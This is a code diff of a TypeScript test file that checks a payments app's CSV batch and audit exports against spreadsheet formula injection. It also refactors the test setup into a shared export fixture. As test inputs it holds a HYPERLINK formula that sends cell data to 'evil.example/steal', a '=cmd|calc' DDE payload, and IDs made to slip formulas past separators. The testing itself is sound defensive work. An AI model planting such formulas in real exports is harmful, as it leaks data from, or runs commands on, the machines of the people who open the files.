@@ -1,9 +1,7 @@
-import { mkdtemp, readFile, rm } from 'node:fs/promises'
-import { tmpdir } from 'node:os'
-import { join } from 'node:path'
+import { readFile } from 'node:fs/promises'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
-import type { FileDialogs } from '../../src/main/services/batch-service'
-import { startCoreFixture, type CoreFixture } from '../helpers/app-core-fixture'
+import type { CoreFixture } from '../helpers/app-core-fixture'
+import { startExportFixture, type ExportFixture } from '../helpers/export-fixture'
 import { apiClient } from '../helpers/sandbox-client'
 import { waitForStatus } from '../main/batch/batch-helpers'
 import { formulaCells, parseCsv } from './csv-readers'
@@ -15,19 +13,14 @@ import { formulaCells, parseCsv } from './csv-readers'
 
 const hyperlink = '=HYPERLINK("https://evil.example/steal?d="&A1;"Click")'
 
+let exports: ExportFixture
 let fixture: CoreFixture
-let outDir: string
-let exportPath = ''
-const dialogs: FileDialogs = { chooseIdFile: () => Promise.resolve(null), chooseExportPath: () => Promise.resolve(exportPath) }
 
 beforeAll(async () => {
-  fixture = await startCoreFixture({ dialogs })
-  outDir = await mkdtemp(join(tmpdir(), 'payments-desk-csv-'))
+  exports = await startExportFixture('payments-desk-csv-')
+  fixture = exports.fixture
 })
-afterAll(async () => {
-  await fixture.close()
-  await rm(outDir, { recursive: true, force: true })
-})
+afterAll(() => exports.close())
 
 describe('a batch export holding a customer e-mail the service returned', () => {
   it('has no formula cell when read with , ; or tab as separator', async () => {
@@ -45,7 +38,7 @@ describe('a batch export holding a customer e-mail the service returned', () => 
     const job = await fixture.ok('batchStart', { ids: [id, '-1;+2', 'pay_x\t=1'], label: 'hostile' })
     await waitForStatus(fixture.core, job.id, 'completed')
 
-    exportPath = join(outDir, 'hostile.csv')
+    const exportPath = exports.exportTo('hostile.csv')
     await fixture.ok('batchExport', { jobId: job.id, format: 'csv', includeEmails: true })
     const csv = await readFile(exportPath, 'utf8')
     expect(formulaCells(csv)).toEqual([])
@@ -59,7 +52,7 @@ describe('a batch export holding a customer e-mail the service returned', () => 
 describe('an audit export holding a base URL the renderer set', () => {
   it('has no formula cell when read with , ; or tab as separator', async () => {
     await fixture.ok('updateSettings', { baseUrl: { environment: 'operator', url: 'https://evil.example/api;=cmd|calc!A1;-2+3' } })
-    exportPath = join(outDir, 'audit.csv')
+    const exportPath = exports.exportTo('audit.csv')
     await fixture.ok('auditExport', { format: 'csv' })
     const csv = await readFile(exportPath, 'utf8')
     expect(csv).toContain('evil.example')
